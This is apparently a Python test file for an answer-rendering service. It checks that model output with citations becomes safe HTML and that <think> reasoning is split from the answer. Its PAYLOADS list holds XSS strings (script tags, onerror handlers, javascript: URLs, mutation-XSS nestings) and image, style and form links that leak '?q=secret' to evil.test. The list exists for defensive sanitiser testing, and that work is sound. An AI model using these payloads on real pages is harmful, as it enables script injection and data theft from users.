"""What an answer may become in a page: our own tags and links, nothing that runs or loads."""

from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service import render
from service.citations import Statement
from service.reasoning import Splitter

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](http://evil.test/p.png?q=secret)", "![x][r]\n\n[r]: http://evil.test/p.png", "[x][r]\n\n[r]: javascript:alert(1)",
    "<http://evil.test/>", "http://evil.test/?q=secret", "<style>@import 'http://evil.test'</style>",
    "<div style='background:url(http://evil.test)'>", "<link rel=stylesheet href=http://evil.test>", "<base href=http://evil.test>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>", "<form action=http://evil.test><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "`</code><script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```", "```\"><img src=x onerror=alert(1)>\nx\n```",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<object data=x>", "<embed src=x>", "<!--<img src=x>-->",
    "<x onclick=alert(1)>y</x>", "\ue0001\ue001<script>", "\ue002\ue0001<img src=x>\ue001", "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<a class='citation' href='http://evil.test'>1</a>", "[1](#citation-1\"onclick=alert(1))", "<p\x00><script>alert(1)</script>",
    "<ｓcript>alert(1)</ｓcript>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<<script>script>alert(1)<</script>/script>",
]  # fmt: skip
TAGS = {
    "p",
    "br",
    "strong",
    "em",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "span",
}


class Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    reader = Reader()
    reader.feed(html)
    for tag, attributes in reader.seen:
        assert tag in TAGS, html
        assert set(attributes) <= {"href", "class", "title", "start"}, html
        assert "href" not in attributes or re.fullmatch(r"#citation-\d+", attributes["href"] or ""), html
        assert attributes.get("class") in (None, "citation", "unsupported"), html
    assert not {"\ue000", "\ue001", "\ue002"} & set(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_come_through_as_text(payload: str) -> None:
    for statements in (
        [Statement(payload)],
        [Statement(payload, (1,))],
        [Statement("Before " + payload + " after.", (1, 2))],
    ):
        assert_harmless(render.html(statements))


@given(st.lists(st.tuples(st.lists(st.sampled_from([*PAYLOADS, "words ", "**b** ", "\n\n", "- ", "`", "```\n"]), max_size=4).map("".join),
                          st.sampled_from([(), (1,), (1, 12)])), max_size=4))  # fmt: skip
def test_nothing_composed_of_them_does_either(parts: list[tuple[str, tuple[int, ...]]]) -> None:
    assert_harmless(render.html([Statement(text, markers) for text, markers in parts]))


def test_markdown_is_kept_and_markers_link() -> None:
    statements = [
        Statement("Run **this**:", (1,)),
        Statement("\n\n```\nmake run\n```", (2,)),
        Statement("\n\n- one"),
        Statement("\n- two [not a link](http://example.org)\n", (1,)),
    ]
    html = render.html(statements)
    assert (
        "<strong>this</strong>" in html
        and "<pre><code>make run\n</code></pre>" in html
        and html.count("<li>") == 2
    )
    assert html.count('<a class="citation" href="#citation-1">1</a>') == 2 and html.count("#citation-2") == 1
    assert html.count('<span class="unsupported"') == 1 and "[not a link](http://example.org)" in html
    assert render.plain(statements).startswith("Run **this**: [1]\n\n```\nmake run\n```")


REPLY = "<think>seven\n</think>\n\nIt is <b>330</b> metres < tall."


@given(st.lists(st.integers(0, len(REPLY)), max_size=12))
def test_reasoning_is_split_off_wherever_pieces_are_cut(cuts: list[int]) -> None:
    edges = [0, *sorted(cuts), len(REPLY)]
    splitter = Splitter()
    shown = ""
    for a, b in itertools.pairwise(edges):
        shown += splitter.feed(REPLY[a:b])[0]
    shown += splitter.finish()[0]
    assert shown == splitter.answer == "It is <b>330</b> metres < tall."
    assert splitter.reasoning.strip() == "seven"


def test_a_bare_closing_tag_turns_what_stood_before_it_into_reasoning() -> None:
    splitter = Splitter()
    for piece in ("I think ", "hard.</thi", "nk> It is so."):
        splitter.feed(piece)
    splitter.finish()
    assert (splitter.answer, splitter.reasoning) == ("It is so.", "I think hard.")
    splitter = Splitter()
    splitter.feed("Yes.", reasoning="of its own channel")
    assert (splitter.answer, splitter.reasoning) == ("Yes.", "of its own channel")


@pytest.mark.parametrize(
    ("pieces", "answer", "reasoning"),
    [
        (("The closing tag is `</th", "ink>`. It ends the thoughts.",), "The closing tag is `</think>`. It ends the thoughts.", ""),
        (("Between `<think>` and `</think>` it thinks.",), "Between `<think>` and `</think>` it thinks.", ""),
        (("<think>Hm.</think>The tags are <think> and </think>.",), "The tags are <think> and </think>.", "Hm."),
        (("<think>a</think>", "<think>b</think>", "It is so."), "It is so.", "ab"),
    ],
)  # fmt: skip
def test_an_answer_may_speak_of_the_tags(pieces: tuple[str, ...], answer: str, reasoning: str) -> None:
    splitter = Splitter()
    for piece in pieces:
        splitter.feed(piece)
    splitter.finish()
    assert (splitter.answer, splitter.reasoning) == (answer, reasoning)


def test_where_reasoning_comes_apart_a_closing_tag_is_text() -> None:
    splitter = Splitter()
    splitter.feed("", "Hm.")
    splitter.feed("Thoughts end at </think> there.")
    assert (splitter.answer, splitter.reasoning) == ("Thoughts end at </think> there.", "Hm.")


def test_a_marker_stands_in_the_last_cell_of_its_row() -> None:
    rows = [
        Statement("| Shop | State |"),
        Statement("\n|---|---|", ours=True),
        Statement("\n| Alpha | open |", (1,)),
    ]
    assert "<td>open <a" in render.html(rows).replace("open<a", "open <a")
    assert render.plain(rows) == "| Shop | State |\n|---|---|\n| Alpha | open [1] |"
